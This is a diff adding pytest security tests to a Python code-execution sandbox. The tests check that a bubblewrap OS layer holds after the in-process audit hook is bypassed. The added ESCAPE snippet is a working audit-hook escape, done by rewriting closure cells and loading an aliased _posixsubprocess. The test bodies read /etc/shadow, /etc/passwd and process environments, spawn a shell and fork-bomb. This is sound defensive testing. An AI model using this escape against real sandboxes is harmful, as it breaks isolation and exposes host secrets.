@@ -10,13 +10,15 @@ import os
 import resource
 import socket
 import subprocess
+import sys
 import time
 from pathlib import Path
 
 import msgspec
 import pytest
 
-from rlnode.cubes.sandbox import SandboxLimits, run_python
+from rlnode.cubes import isolation
+from rlnode.cubes.sandbox import SandboxError, SandboxLimits, run_python
 
 FAST = SandboxLimits(wall_timeout_s=3.0, cpu_seconds=1)
 
@@ -263,3 +265,211 @@ def test_limits_are_validated():
         msgspec.convert({"cpu_seconds": 0}, SandboxLimits)
     with pytest.raises(msgspec.ValidationError, match="max_drain_bytes"):
         msgspec.convert({"max_output_bytes": 4096, "max_drain_bytes": 1024}, SandboxLimits)
+
+
+# ---- the OS layer: the audit hook defeated from inside -------------------------
+# Every test below first breaks the bootstrap's audit hook the way a snippet
+# can (so what stops it must be the OS layer) and then attacks the host.
+
+# Defeats the hook two ways, then runs BODY in a hook-free interpreter:
+# 1. catch the hook's PermissionError, walk the traceback into the policy's
+#    frames and rewrite its closure cells (allowed dir -> "/", read roots);
+# 2. load a fresh _posixsubprocess under a dotted alias (the hook checks the
+#    top-level name only; its fork_exec raises no audit event) and exec the
+#    interpreter again without the bootstrap.
+ESCAPE = r'''
+import os, sys, _imp, importlib.util
+try:
+    open("/escape-probe", "w")
+except PermissionError as e:
+    tb = e.__traceback__
+    while tb is not None:
+        for fn in list(tb.tb_frame.f_locals.values()):
+            for cell in getattr(fn, "__closure__", None) or ():
+                try:
+                    v = cell.cell_contents
+                except ValueError:
+                    continue
+                if isinstance(v, str) and v.startswith("/"):
+                    cell.cell_contents = "/"
+                elif isinstance(v, tuple) and v and all(isinstance(x, str) for x in v):
+                    cell.cell_contents = ("/",)
+        tb = tb.tb_next
+print("hook-paths-defeated", open("/proc/self/status").read().count("Uid"), flush=True)
+so = [d + "/" + f for d in sys.path if os.path.isdir(d) for f in os.listdir(d) if f.startswith("_posixsubprocess.")]
+fresh = _imp.create_dynamic(importlib.util.spec_from_file_location("alias._posixsubprocess", so[0]))
+r, w = os.pipe()
+er, ew = os.pipe()
+pid = fresh.fork_exec([sys.executable.encode(), b"-I", b"-S", b"-c", BODY.encode()], [sys.executable.encode()],
+                      True, (w,), None, None, -1, -1, -1, w, -1, w, er, ew, True, False, -1, None, None,
+                      None, -1, None, False)
+os.close(w); os.close(ew)
+print("unhooked-child", pid, flush=True)
+while chunk := os.read(r, 65536):
+    sys.stdout.write(chunk.decode(errors="replace"))
+print("child-status", os.waitpid(pid, 0)[1], flush=True)
+'''
+
+
+def escape(body: str) -> str:
+    return f"BODY = {body!r}\n" + ESCAPE
+
+
+def sandbox_uid_processes() -> list[str]:
+    """Live processes of any sandbox uid (bwrap runs: UID_BASE..) or running
+    the bootstrap, anywhere on the host."""
+    found = []
+    for proc in Path("/proc").iterdir():
+        try:
+            status = (proc / "status").read_text()
+            cmdline = (proc / "cmdline").read_bytes()
+        except OSError:
+            continue
+        uid = int(status.split("Uid:")[1].split()[0])
+        if "State:\tZ" in status:
+            continue
+        if isolation.UID_BASE <= uid < isolation.UID_BASE + isolation.UID_SPAN or (
+                b"rlnode-sandbox bootstrap" in cmdline and int(proc.name) != os.getpid()):
+            found.append(f"{proc.name} uid={uid} {cmdline[:60]!r}")
+    return found
+
+
+@pytest.fixture
+async def bwrap_limits():
+    if not await isolation.works("bwrap", sys.executable):
+        pytest.skip("bubblewrap cannot run here (make test-deps installs it as root); "
+                    "python-math refuses snippets unless isolation='none'")
+    return SandboxLimits(wall_timeout_s=6.0, cpu_seconds=3, isolation="bwrap")
+
+
+def assert_clean(r, workdir: str | None = None) -> None:
+    assert live_in_group(r.pid) == []
+    assert my_sandbox_children() == []
+    assert sandbox_uid_processes() == []
+    if workdir:
+        assert not Path(workdir).exists()
+
+
+async def test_auto_isolation_is_bwrap_here(bwrap_limits):
+    r = await run_python("import os\nprint(os.getuid())", FAST)
+    assert r.isolation == "bwrap" and r.network_isolated and r.privileges_dropped
+    assert int(r.stdout.split()[0]) != 0
+
+
+async def test_frame_walk_exploit_cannot_write_read_or_exec_outside(bwrap_limits, tmp_path, monkeypatch):
+    monkeypatch.setenv("RLNODE_TEST_SECRET", "hunter2-daemon-secret")
+    secret = tmp_path / "secret.txt"
+    secret.write_text("daemon-secret-file")
+    target = tmp_path / "escaped.txt"
+    repo_file = Path(__file__).resolve()
+    body = f'''
+import os
+for path in ("/etc/shadow", {str(secret)!r}, {str(repo_file)!r}, "/proc/1/environ"):
+    try:
+        print("READ", path, open(path).read()[:80])
+    except OSError as e:
+        print("NOREAD", path, type(e).__name__)
+try:
+    open({str(target)!r}, "w").write("pwned")
+    print("WROTE")
+except OSError as e:
+    print("NOWRITE", type(e).__name__)
+print("ENV", open("/proc/self/environ").read().replace(chr(0), " "), flush=True)
+os.execv("/bin/sh", ["sh", "-c", "id -u; ls /; cat /etc/passwd; echo pwned > {target}.sh"])
+'''
+    code = ("try:\n    open('/proc/self/environ')\nexcept PermissionError:\n    print('hook-active')\n"
+            + escape(body))
+    r = await run_python(code, bwrap_limits)
+    out = r.stdout
+    assert out.startswith("hook-active\nhook-paths-defeated"), (out, r.stderr)
+    assert "unhooked-child" in out and "child-status" in out, (out, r.stderr)
+    # The hook is gone in the child (/proc/self/environ is readable) ...
+    env_line = next(line for line in out.splitlines() if line.startswith("ENV "))
+    assert "PATH=/usr/bin:/bin" in env_line
+    # ... and the OS layer holds: no daemon env, files or host view.
+    assert "RLNODE_TEST_SECRET" not in out and "hunter2" not in out
+    assert "\nREAD " not in out and "daemon-secret-file" not in out and "root:" not in out
+    assert "NOREAD /etc/shadow FileNotFoundError" in out
+    assert "NOWRITE" in out and "WROTE" not in out
+    assert not target.exists() and not Path(f"{target}.sh").exists()
+    shell_uid, *rest = out.split("ENV ", 1)[1].splitlines()[1:]
+    assert int(shell_uid) >= isolation.UID_BASE  # the shell ran, unprivileged
+    assert "work" not in rest and "etc" not in rest and "home" not in rest
+    assert "cat: /etc/passwd: No such file or directory" in out
+    assert_clean(r)
+
+
+async def test_unhooked_writes_land_only_in_the_private_tmpfs(bwrap_limits):
+    body = ("import os\nopen('inside.txt', 'w').write('ok')\nprint('CWD', os.getcwd())\n"
+            "try:\n    for i in range(200):\n        with open(f'/tmp/fill{i}', 'wb') as f:\n"
+            "            f.write(b'x' * (1 << 20))\nexcept OSError as e:\n    print('FULL', i, e.errno)\nfor p in ('/usr/x', '/x', '/root/.pyenv/x'):\n"
+            "    try:\n        open(p, 'w')\n        print('WROTE', p)\n    except OSError as e:\n        print('RO', p, e.errno)\n")
+    r = await run_python(escape(body), bwrap_limits)
+    assert "WROTE" not in r.stdout, r.stdout
+    full = r.stdout.split("FULL ")[1].split()
+    assert full[1] == "28" and 60 <= int(full[0]) <= 64  # ENOSPC: /tmp is a 64 MiB tmpfs
+    assert r.stdout.count("RO ") == 3
+    workdir = next(line.split()[1] for line in r.stdout.splitlines() if line.startswith("CWD"))
+    assert_clean(r, workdir)
+
+
+async def test_unhooked_fork_bomb_is_contained(bwrap_limits):
+    before = len(list(Path("/proc").glob("[0-9]*")))
+    body = ("import os, time\nn = 0\nwhile True:\n    try:\n        if os.fork() == 0:\n"
+            "            time.sleep(60)\n            os._exit(0)\n        n += 1\n    except OSError as e:\n"
+            "        print('FORK-LIMIT', n, e.errno, flush=True)\n        break\ntime.sleep(60)\n")
+    limits = msgspec.structs.replace(bwrap_limits, wall_timeout_s=3.0, max_processes=8)
+    r = await run_python(escape(body), limits)
+    assert "FORK-LIMIT" in r.stdout, (r.stdout, r.stderr)
+    forked = int(r.stdout.split("FORK-LIMIT")[1].split()[0])
+    assert forked <= 8 and " 11" in r.stdout.split("FORK-LIMIT")[1]  # EAGAIN
+    assert r.killed_reason == "wall_timeout" and r.duration_s < 6
+    assert_clean(r)
+    assert len(list(Path("/proc").glob("[0-9]*"))) < before + 20
+
+
+async def test_unhooked_huge_allocation_fails_in_the_child_only(bwrap_limits):
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    body = "try:\n    x = bytearray(10 ** 10)\n    print('ALLOCATED')\nexcept MemoryError:\n    print('MEMORYERROR')\n"
+    r = await run_python(escape(body), bwrap_limits)
+    assert "MEMORYERROR" in r.stdout and "ALLOCATED" not in r.stdout
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024
+    assert_clean(r)
+
+
+async def test_unhooked_socket_cannot_reach_the_hosts_loopback(bwrap_limits):
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.setblocking(False)
+    port = listener.getsockname()[1]
+    body = (f"import socket\nfor host in ('127.0.0.1', '8.8.8.8'):\n    s = socket.socket()\n    s.settimeout(2)\n"
+            f"    try:\n        s.connect((host, {port}))\n        print('CONNECTED', host)\n"
+            f"    except OSError as e:\n        print('NOCONNECT', host, e.errno)\n")
+    try:
+        r = await run_python(escape(body), bwrap_limits)
+        assert "CONNECTED" not in r.stdout and r.stdout.count("NOCONNECT") == 2, (r.stdout, r.stderr)
+        assert "NOCONNECT 127.0.0.1 111" in r.stdout  # refused: its own, empty loopback
+        assert "NOCONNECT 8.8.8.8 101" in r.stdout  # ENETUNREACH: no route out
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    finally:
+        listener.close()
+    assert_clean(r)
+
+
+async def test_unhooked_infinite_loop_is_killed(bwrap_limits):
+    limits = msgspec.structs.replace(bwrap_limits, wall_timeout_s=2.0, cpu_seconds=30)
+    r = await run_python(escape("while True: pass\n"), limits)
+    assert r.killed_reason == "wall_timeout" and r.duration_s < 4
+    assert_clean(r)
+
+
+async def test_auto_refuses_without_an_os_layer(monkeypatch):
+    monkeypatch.setattr(isolation, "_works", {})
+    monkeypatch.setattr(isolation, "_bwrap_bin", lambda: None)
+    monkeypatch.setattr(isolation, "_unshare_bin", lambda: None)
+    with pytest.raises(SandboxError, match="no OS isolation"):
+        await run_python("print(1)", FAST)
+    r = await run_python("print(1)", msgspec.structs.replace(FAST, isolation="none"))
+    assert (r.stdout, r.isolation, r.network_isolated) == ("1\n", "none", False)
